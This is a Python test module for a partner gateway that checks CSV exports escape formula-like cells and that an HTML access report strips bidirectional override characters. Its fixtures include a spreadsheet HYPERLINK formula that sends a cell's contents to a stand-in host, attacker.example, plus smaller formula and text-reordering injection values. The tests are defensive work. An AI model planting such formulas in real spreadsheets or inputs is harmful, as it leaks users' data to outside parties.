"""What callers and the source system write reaches auditors harmless: CSV cells that would run
as spreadsheet formulas are escaped, and bidi controls cannot reorder the access report page.
"""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from app.access_report.html import access_report_html
from app.admission.records import Caller, Protocol
from app.counter.records import InquiryRequest
from app.main import Gateway
from app.settings import Settings
from tests.conftest import PartnerCredentials
from tests.integration.test_partner_feed import feed_api, new_partner
from tests.integration.test_settlement_cli import ssogw
from tests.support.clock import PinnedClock
from tests.support.counter_calls import s40_person
from tests.support.people import add_person
from tests.support.rest_api import new_client
from tests.support.scenarios import current_month
from tests.support.wsse import digest_token

pytestmark = pytest.mark.db
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE


@pytest.mark.usefixtures("cli_time")  # drives ssogw: wall-clock business time
async def test_a_partners_operator_id_formula_reaches_audit_lookups_csv_escaped(
    gateway: Gateway, partner: PartnerCredentials, settings: Settings,
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    person = await s40_person(gateway)
    caller = Caller(Protocol.SOAP, "127.0.0.1", uuid.uuid4().hex, operator=FORMULA,
                    terminal="@SUM(1+1)")  # fmt: skip
    await gateway.counter.inquire(
        caller=caller, credentials=digest_token(partner.username, partner.password),
        request=InquiryRequest(person),
    )  # fmt: skip
    assert await ssogw(monkeypatch, settings, "audit", "lookups", "--national-id", person,
                       "--csv") == 0  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    [inquiry] = [r for r in rows if r["operation"] == "InquireContribution"]
    assert inquiry["operator"] == "'" + FORMULA
    assert inquiry["terminal"] == "'@SUM(1+1)"
    assert inquiry["name_returned"] == "นางสมหญิง ใจดี", "other cells are left as they are"


async def test_a_csv_feed_escapes_a_name_that_starts_like_a_formula(gateway: Gateway) -> None:
    partner = await new_partner(gateway, scope=["national_id", "first_name", "last_name"])
    async with gateway.db.primary.acquire() as conn:
        person = await add_person(conn, section=39, coverage_start=current_month().minus(3),
                                  first_name="=1+2", last_name="'-ใจดี")  # fmt: skip
    _, admin = await new_client(gateway, ["admin"])
    async with feed_api(gateway, admin) as api:
        response = await api.get(f"/api/v1/partners/{partner}/feed", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = {r["national_id"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert (rows[person]["first_name"], rows[person]["last_name"]) == ("'=1+2", "''-ใจดี")


async def test_a_name_with_a_bidi_override_is_neutralised_in_the_access_report_page(
    gateway: Gateway, partner: PartnerCredentials, clock: PinnedClock
) -> None:
    async with gateway.db.primary.acquire() as conn:
        person = await add_person(
            conn, section=40, option=1, coverage_start=current_month(),
            first_name=f"สม{RLO}ชาย", last_name="ใจดี\u2066x\u2069",
        )  # fmt: skip
    start = clock()
    caller = Caller(Protocol.SOAP, "127.0.0.1", uuid.uuid4().hex, operator=f"op{RLO}7")
    await gateway.counter.inquire(
        caller=caller, credentials=digest_token(partner.username, partner.password),
        request=InquiryRequest(person),
    )  # fmt: skip
    report = await gateway.access_report_builder.build(person, start)
    assert report.person_name is not None and RLO in report.person_name
    page = access_report_html(report)
    for control in (RLO, "\u2066", "\u2069"):
        assert control not in page
    assert "สม\ufffdชาย ใจดี\ufffdx\ufffd" in page
    assert "operator op\ufffd7" in page
